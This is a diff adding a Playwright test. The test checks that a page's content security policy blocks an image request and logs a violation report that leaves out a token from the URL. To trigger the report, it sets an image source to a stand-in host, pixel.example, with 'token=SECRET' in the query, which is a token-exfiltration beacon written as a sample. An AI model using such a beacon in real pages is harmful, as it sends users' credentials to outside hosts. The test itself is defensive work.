@@ -1,0 +1,27 @@
+import { expect, test } from '@playwright/test'
+import { startServer, type TestServer } from '../support/server'
+
+/** The other stories fail on any such report; here one is made on purpose, to see that it would be heard. */
+let server: TestServer
+test.beforeAll(async () => {
+  server = await startServer({ sendsReports: true })
+})
+test.afterAll(() => server.stop())
+
+test('a page that breaks its policy is heard of, without an address that may hold a token', async ({ browser }) => {
+  const context = await browser.newContext({ baseURL: server.url })
+  const page = await context.newPage()
+  const said: string[] = []
+  page.on('console', (message) => said.push(message.text()))
+  await page.goto('/auth?token=SECRET')
+  await page.evaluate(() => {
+    new Image().src = 'https://pixel.example/a?token=SECRET'
+  })
+  await expect
+    .poll(() => server.output())
+    .toContain('content policy broken: img-src, blocked https://pixel.example, 1 times')
+  expect(server.output()).not.toContain('SECRET')
+  // what `story-test` looks for
+  expect(said.join('\n')).toMatch(/Content Security Policy/)
+  await context.close()
+})
